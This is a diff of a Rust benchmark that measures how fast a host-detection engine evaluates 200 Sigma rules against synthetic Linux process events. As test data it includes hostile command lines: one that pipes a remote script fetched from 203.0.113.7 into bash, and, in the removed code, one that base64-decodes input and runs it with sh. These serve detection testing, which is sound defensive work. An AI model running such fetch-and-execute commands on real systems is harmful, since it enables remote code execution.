@@ -1,319 +1,224 @@
-//! An alert storm of 10,000 matches: the fold machine alone, the detection engine
-//! (decode, Sigma evaluation, fold, alert encoding), and the whole service path through a
-//! real broker (a publisher's 10,000 QoS1 events, each PubAcked only once detection has
-//! evaluated it and its alert, if any, is confirmed), beside the same publish to a plain
-//! QoS1 subscriber: the bus with and without detection.
+//! Rule evaluation: realistic process events against 200 Sigma rules on one core (target:
+//! at least 200,000 events per second).
 //!
-//! `cargo bench -p daemoneye-io --bench detection`
+//! `cargo bench -p daemoneye-io --bench detection`. The rules are the shipped set plus the
+//! community `process_creation` rules (`shared/sigma/linux` beside the repository), and
+//! copies of those with distinct ids up to 200; without the community set, copies of the
+//! shipped rules. The events are a mix of what a busy Linux host starts: shells, git, build
+//! tools, package and service helpers, with one suspicious command in twenty.
 
-use std::path::PathBuf;
-use std::sync::Arc;
-use std::time::{Duration, Instant as StdInstant};
+use std::hint::black_box;
+use std::path::{Path, PathBuf};
+use std::time::Duration;
 
-use bytes::Bytes;
-use criterion::{BatchSize, Criterion, Throughput, criterion_group, criterion_main};
-use daemoneye_core::Instant;
-use daemoneye_core::acl::Acl;
-use daemoneye_core::broker::{Broker, BrokerConfig};
-use daemoneye_core::detect::fold::{FoldConfig, Folder};
-use daemoneye_core::topic::topics;
-use daemoneye_io::agent::detection::engine::{Engine, Incoming};
-use daemoneye_io::agent::detection::{self, DetectionHealth, DetectionService};
-use daemoneye_io::client::{AckMode, Client, ClientOptions};
-use daemoneye_io::clock::MonotonicClock;
-use daemoneye_io::config::DetectionSettings;
-use daemoneye_io::detect::{RuleSet, RuleSources};
-use daemoneye_io::transport::{UnixConnector, UnixTransport};
-use daemoneye_io::{paths, server};
-use daemoneye_proto::frame::{Publish, QoS, Subscribe};
+use criterion::{Criterion, Throughput, criterion_group, criterion_main};
+use daemoneye_io::detect::{RuleSet, RuleSources, builtin, rule_files};
 use daemoneye_proto::pb::events::{ProcessEvent, ProcessEventKind, ProcessInfo};
-use prost::Message;
+use nix::time::{ClockId, clock_gettime};
 
+// The agent's allocator: the engine allocates per case-insensitive comparison.
 #[global_allocator]
-static ALLOCATOR: mimalloc::MiMalloc = mimalloc::MiMalloc;
+static GLOBAL: mimalloc::MiMalloc = mimalloc::MiMalloc;
 
-const STORM: usize = 10_000;
+const RULES: usize = 200;
 
-/// The loop's exec, as procmond reports it.
-fn event(i: u64) -> ProcessEvent {
+fn community_dir() -> Option<PathBuf> {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .ancestors()
+        .map(|a| a.join("shared/sigma/linux/process_creation"))
+        .find(|d| d.is_dir())
+}
+
+/// Writes the rules beyond the shipped ones into `dir`: community rules, then copies with
+/// distinct ids, up to [`RULES`] in all.
+fn write_rules(dir: &Path) -> usize {
+    let mut sources: Vec<(String, String)> = match community_dir() {
+        Some(d) => rule_files(&d)
+            .unwrap_or_default()
+            .into_iter()
+            .filter_map(|f| {
+                let text = std::fs::read_to_string(&f).ok()?;
+                Some((f.file_name()?.to_string_lossy().into_owned(), text))
+            })
+            .collect(),
+        None => Vec::new(),
+    };
+    if sources.is_empty() {
+        sources = builtin::RULES
+            .iter()
+            .map(|(n, t)| (format!("copy_{n}"), t.replace("\nid: ", "\nid: copy-")))
+            .collect();
+    }
+    let wanted = RULES - builtin::RULES.len();
+    for i in 0..wanted {
+        let (name, text) = &sources[i % sources.len()];
+        let round = i / sources.len();
+        let text = if round == 0 {
+            text.clone()
+        } else {
+            text.replacen("\nid: ", &format!("\nid: r{round}-"), 1)
+        };
+        std::fs::write(dir.join(format!("{round}_{name}")), text).expect("write a rule");
+    }
+    wanted
+}
+
+fn event(exe: &str, argv: &[&str], parent: &str, pid: u32) -> ProcessEvent {
     ProcessEvent {
         kind: ProcessEventKind::New as i32,
         process: Some(ProcessInfo {
-            pid: 10_000 + (i % 50_000) as u32,
-            ppid: 4_000,
-            name: "sh".into(),
-            exe: "/usr/bin/dash".into(),
-            cmdline: vec![
-                "sh".into(),
-                "-c".into(),
-                "echo aGk= | base64 -d | sh".into(),
-            ],
+            pid,
+            ppid: pid - 7,
+            name: exe.rsplit('/').next().unwrap_or_default().into(),
+            exe: exe.into(),
+            cmdline: argv.iter().map(|s| s.to_string()).collect(),
             user: "alice".into(),
             uid: 1000,
-            cwd: "/tmp".into(),
-            parent_exe: "/usr/bin/bash".into(),
-            parent_cmdline: vec!["bash".into()],
-            start_ticks: 1_000_000 + i,
+            cwd: "/home/alice/src/project".into(),
+            parent_exe: parent.into(),
+            parent_cmdline: vec![parent.rsplit('/').next().unwrap_or_default().into()],
+            exe_sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into(),
             ..Default::default()
         }),
-        observed_at_ms: daemoneye_io::clock::unix_ms(),
+        observed_at_ms: 1_764_000_000_000,
         collector_id: "procmond".into(),
         source: "netlink".into(),
         ..Default::default()
     }
 }
 
-fn settings() -> DetectionSettings {
-    DetectionSettings {
-        rules: Vec::new(),
-        builtin_rules: true,
-        fold_window: Duration::from_secs(60),
-        enrich_level: None,
-        enrich: Vec::new(),
-        enrich_timeout: Duration::from_secs(5),
-    }
-}
-
-fn fold(c: &mut Criterion) {
-    let mut g = c.benchmark_group("storm_fold");
-    g.throughput(Throughput::Elements(STORM as u64));
-    let window = FoldConfig::new(Duration::from_secs(60));
-    g.bench_function("one_key", |b| {
-        b.iter_batched(
-            || Folder::<u32, u64>::new(window),
-            |mut f| {
-                for i in 0..STORM as u64 {
-                    f.handle_match(Instant::from_nanos(i * 100_000), 0, i, i);
-                    while f.poll_output().is_some() {}
-                }
-                f
-            },
-            BatchSize::SmallInput,
-        );
-    });
-    g.bench_function("1000_keys_100_open", |b| {
-        b.iter_batched(
-            || {
-                Folder::<u32, u64>::new(FoldConfig {
-                    max_open: 100,
-                    ..window
-                })
-            },
-            |mut f| {
-                for i in 0..STORM as u64 {
-                    f.handle_match(Instant::from_nanos(i * 100_000), (i % 1000) as u32, i, i);
-                    while f.poll_output().is_some() {}
-                }
-                f
-            },
-            BatchSize::SmallInput,
-        );
-    });
-    g.finish();
-}
-
-fn engine(c: &mut Criterion) {
-    let sources = RuleSources {
-        builtin: true,
-        directories: Vec::new(),
-    };
-    let rules = Arc::new(RuleSet::load(&sources));
-    let mut engine = Engine::new(
-        rules,
-        sources,
-        0,
-        FoldConfig::new(Duration::from_secs(3600)),
-        "bench".into(),
-        DetectionHealth::default(),
+fn events() -> Vec<ProcessEvent> {
+    let bash = "/usr/bin/bash";
+    let benign: &[(&str, &[&str], &str)] = &[
+        ("/usr/bin/git", &["git", "status", "--porcelain=v1"], bash),
+        ("/usr/bin/ls", &["ls", "--color=auto", "-la"], bash),
+        ("/usr/bin/grep", &["grep", "-rn", "TODO", "src/"], bash),
+        ("/usr/bin/cargo", &["cargo", "build", "--release"], bash),
+        (
+            "/usr/lib/rustc",
+            &[
+                "rustc",
+                "--crate-name",
+                "app",
+                "--edition=2024",
+                "src/main.rs",
+            ],
+            "/usr/bin/cargo",
+        ),
+        (
+            "/usr/bin/python3.12",
+            &["python3", "/opt/app/manage.py", "runserver", "0.0.0.0:8000"],
+            "/usr/lib/systemd/systemd",
+        ),
+        (
+            "/usr/bin/sshd",
+            &["sshd:", "alice", "[priv]"],
+            "/usr/sbin/sshd",
+        ),
+        ("/usr/bin/cat", &["cat", "/proc/meminfo"], bash),
+        (
+            "/usr/bin/systemctl",
+            &["systemctl", "status", "nginx.service"],
+            bash,
+        ),
+        (
+            "/usr/bin/apt-get",
+            &["apt-get", "install", "-y", "libssl-dev"],
+            "/usr/bin/sudo",
+        ),
+        (
+            "/usr/bin/node",
+            &["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "test"],
+            bash,
+        ),
+        (
+            "/usr/bin/docker",
+            &["docker", "ps", "--format", "{{.Names}}"],
+            bash,
+        ),
+        (
+            "/usr/bin/find",
+            &["find", ".", "-name", "*.rs", "-newer", "Cargo.lock"],
+            bash,
+        ),
+        (
+            "/usr/bin/sh",
+            &["sh", "-c", "make -j2 all && make check"],
+            "/usr/bin/make",
+        ),
+        ("/usr/bin/ps", &["ps", "aux"], bash),
+        ("/usr/bin/vim", &["vim", "README.md"], bash),
+        (
+            "/usr/bin/tar",
+            &["tar", "xzf", "release-1.4.2.tar.gz", "-C", "/opt/app"],
+            bash,
+        ),
+        (
+            "/usr/bin/ssh",
+            &["ssh", "-p", "2222", "deploy@build.internal"],
+            bash,
+        ),
+        ("/usr/bin/awk", &["awk", "{print $1}", "access.log"], bash),
+    ];
+    let suspicious: (&str, &[&str], &str) = (
+        "/usr/bin/bash",
+        &["bash", "-c", "curl -fsSL http://203.0.113.7/i.sh | bash"],
+        bash,
     );
-    let batches: Vec<Vec<Incoming>> = (0..STORM as u64)
-        .map(|i| Incoming {
-            topic: topics::PROCESS_NEW.into(),
-            payload: Bytes::from(event(i).encode_to_vec()),
-            correlation: None,
-            publisher: "procmond.bench".into(),
-            sequence: i + 1,
+    (0..200u32)
+        .map(|i| {
+            let (exe, argv, parent) = if i % 20 == 19 {
+                suspicious
+            } else {
+                benign[i as usize % benign.len()]
+            };
+            event(exe, argv, parent, 10_000 + i)
         })
-        .collect::<Vec<_>>()
-        .chunks(detection::MAX_BATCH)
-        .map(<[Incoming]>::to_vec)
-        .collect();
-    let mut g = c.benchmark_group("storm_engine");
-    g.throughput(Throughput::Elements(STORM as u64));
-    g.bench_function("builtin_rules_one_command", |b| {
-        let origin = StdInstant::now();
-        b.iter(|| {
-            let mut raised = 0;
-            for batch in &batches {
-                let now = Instant::from_nanos(origin.elapsed().as_nanos() as u64);
-                raised += engine
-                    .evaluate(batch, now, daemoneye_io::clock::unix_ms())
-                    .len();
-            }
-            raised
-        });
+        .collect()
+}
+
+fn evaluation(c: &mut Criterion) {
+    let dir = tempfile::tempdir().expect("a temporary directory");
+    write_rules(dir.path());
+    let set = RuleSet::load(&RuleSources {
+        builtin: true,
+        directories: vec![dir.path().into()],
     });
-    g.finish();
-}
-
-/// A broker (and, with `detection`, the detection service) on a thread of their own, as
-/// in the agent; dropped, it stops.
-struct Rig {
-    socket: PathBuf,
-    stop: Option<tokio::sync::oneshot::Sender<()>>,
-    thread: Option<std::thread::JoinHandle<()>>,
-    _dir: tempfile::TempDir,
-}
-
-impl Rig {
-    fn start(detection: bool) -> Rig {
-        let dir = tempfile::tempdir().expect("tempdir");
-        let socket = dir.path().join("broker.sock");
-        let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
-        let (ready_tx, ready_rx) = std::sync::mpsc::channel::<()>();
-        let path = socket.clone();
-        let thread = std::thread::spawn(move || {
-            let rt = tokio::runtime::Builder::new_current_thread()
-                .enable_all()
-                .build()
-                .expect("runtime");
-            let local = tokio::task::LocalSet::new();
-            local.block_on(&rt, async move {
-                let uid = paths::current_uid();
-                let listener = paths::bind_socket(&path).await.expect("bind");
-                let config = BrokerConfig {
-                    owner_uid: uid,
-                    ..BrokerConfig::default()
-                };
-                let (stop_server, server_stopped) = tokio::sync::oneshot::channel::<()>();
-                let server = tokio::task::spawn_local(server::serve(
-                    UnixTransport(listener),
-                    Broker::new(config, Acl::owner_only(uid), 1),
-                    MonotonicClock::default(),
-                    async move {
-                        let _ = server_stopped.await;
-                    },
-                ));
-                let (sub_ready, subscribed) = tokio::sync::oneshot::channel();
-                let (_reload, reloads) = tokio::sync::mpsc::channel(1);
-                let (stop_consumer, consumer_stopped) = tokio::sync::oneshot::channel::<()>();
-                let consumer = if detection {
-                    let service = DetectionService {
-                        settings: Some(settings()),
-                        health: DetectionHealth::default(),
-                    };
-                    tokio::task::spawn_local(async move {
-                        let _ = detection::serve_detection(
-                            UnixConnector(path),
-                            detection::client_options(),
-                            service,
-                            sub_ready,
-                            reloads,
-                            async move {
-                                let _ = consumer_stopped.await;
-                            },
-                        )
-                        .await;
-                    })
-                } else {
-                    tokio::task::spawn_local(async move {
-                        let client = Client::connect(&path, ClientOptions::new("plain"))
-                            .await
-                            .expect("connect");
-                        let spec = Subscribe {
-                            qos: QoS::AtLeastOnce,
-                            capacity: Some(20_000),
-                            ..Subscribe::new(topics::PROCESS_NEW)
-                        };
-                        let mut sub = client
-                            .subscribe_with(spec, AckMode::OnHandOver)
-                            .await
-                            .expect("subscribe");
-                        let _ = sub_ready.send(());
-                        tokio::select! {
-                            _ = consumer_stopped => {}
-                            () = async { while sub.recv().await.is_some() {} } => {}
-                        }
-                    })
-                };
-                let _ = subscribed.await;
-                let _ = ready_tx.send(());
-                let _ = stopped.await;
-                let _ = stop_consumer.send(());
-                let _ = consumer.await;
-                let _ = stop_server.send(());
-                let _ = server.await;
-            });
-        });
-        ready_rx
-            .recv_timeout(Duration::from_secs(10))
-            .expect("rig ready");
-        Rig {
-            socket,
-            stop: Some(stop),
-            thread: Some(thread),
-            _dir: dir,
-        }
-    }
-}
-
-impl Drop for Rig {
-    fn drop(&mut self) {
-        if let Some(stop) = self.stop.take() {
-            let _ = stop.send(());
-        }
-        if let Some(t) = self.thread.take() {
-            let _ = t.join();
-        }
-    }
-}
-
-fn through_the_bus(c: &mut Criterion) {
-    let payloads: Vec<Bytes> = (0..STORM as u64)
-        .map(|i| Bytes::from(event(i).encode_to_vec()))
-        .collect();
-    let mut g = c.benchmark_group("storm_through_the_bus");
-    g.throughput(Throughput::Elements(STORM as u64));
-    g.sample_size(10);
-    for (name, detection) in [("plain_qos1_subscriber", false), ("detection", true)] {
-        let rig = Rig::start(detection);
-        let rt = tokio::runtime::Builder::new_current_thread()
-            .enable_all()
-            .build()
-            .expect("runtime");
-        let client = rt
-            .block_on(Client::connect(
-                &rig.socket,
-                ClientOptions::new("procmond-bench"),
-            ))
-            .expect("connect");
-        g.bench_function(name, |b| {
-            b.iter_custom(|iters| {
-                let mut total = Duration::ZERO;
-                for _ in 0..iters {
-                    let start = StdInstant::now();
-                    rt.block_on(async {
-                        let mut acks = Vec::with_capacity(STORM);
-                        for p in &payloads {
-                            let publish =
-                                Publish::new(topics::PROCESS_NEW, p.clone(), QoS::AtLeastOnce);
-                            acks.push(client.send(publish).await.expect("send"));
-                        }
-                        for a in acks {
-                            let ack = a.wait().await.expect("puback").expect("qos1");
-                            assert_eq!(ack.dropped, 0);
-                        }
-                    });
-                    total += start.elapsed();
+    assert_eq!(set.active(), RULES, "every benchmark rule is active");
+    let events = events();
+    let mut group = c.benchmark_group("detection");
+    group.throughput(Throughput::Elements(events.len() as u64));
+    group.bench_function("200 rules, process events", |b| {
+        b.iter(|| {
+            let mut matches = 0;
+            for e in &events {
+                matches += set.evaluate(black_box(e)).len();
+            }
+            black_box(matches)
+        })
+    });
+    // The same work timed by this thread's CPU clock: events per second of one core,
+    // whatever else the shared machine runs meanwhile.
+    group.bench_function("200 rules, process events, thread CPU time", |b| {
+        b.iter_custom(|iters| {
+            let start = thread_cpu();
+            let mut matches = 0;
+            for _ in 0..iters {
+                for e in &events {
+                    matches += set.evaluate(black_box(e)).len();
                 }
-                total
-            });
-        });
-        rt.block_on(client.close());
-        drop(rig);
-    }
-    g.finish();
+            }
+            black_box(matches);
+            thread_cpu().saturating_sub(start)
+        })
+    });
+    group.finish();
 }
 
-criterion_group!(benches, fold, engine, through_the_bus);
+fn thread_cpu() -> Duration {
+    let t = clock_gettime(ClockId::CLOCK_THREAD_CPUTIME_ID).expect("the thread's CPU clock");
+    Duration::new(t.tv_sec() as u64, t.tv_nsec() as u32)
+}
+
+criterion_group!(benches, evaluation);
 criterion_main!(benches);
